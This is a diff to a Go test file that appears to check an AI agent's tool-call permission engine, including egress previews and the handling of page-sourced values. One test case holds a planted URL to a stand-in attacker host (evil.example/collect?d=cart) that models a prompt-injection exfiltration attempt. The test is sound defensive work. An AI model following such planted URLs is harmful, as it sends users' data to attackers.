@@ -187,8 +187,8 @@ func TestDecide(t *testing.T) {
 		// Egress asks with a preview of what leaves.
 		{name: "share", tool: "artifact.share", args: `{"artifactId":"art_1","format":"markdown","target":"clipboard"}`, mode: D, want: ask, reason: ReasonEgress,
 			preview: "Export the full content of artifact art_1 as markdown to clipboard"},
-		{name: "invoke", tool: "integration.invoke", args: `{"integration":"slack","operation":"post_message","payload":{"channel":"#team","text":"hi"}}`, mode: A, want: ask, reason: ReasonEgress,
-			preview: `exactly this payload: {"channel":"#team","text":"hi"}`},
+		{name: "invoke", tool: "integration.invoke", args: `{"integration":"slack","operation":"post_message","payload":{"channel":"#team","text":"a & <b>"}}`, mode: A, want: ask, reason: ReasonEgress,
+			preview: `exactly this payload: {"channel":"#team","text":"a & <b>"}`},
 
 		// Provenance: page-sourced values are never plainly allowed.
 		{name: "navigate to planted url", tool: "browser.navigate", args: `{"url":"https://evil.example/collect?d=cart"}`, mode: D, goal: "check my cart", want: ask, reason: ReasonUntrustedProvenance},
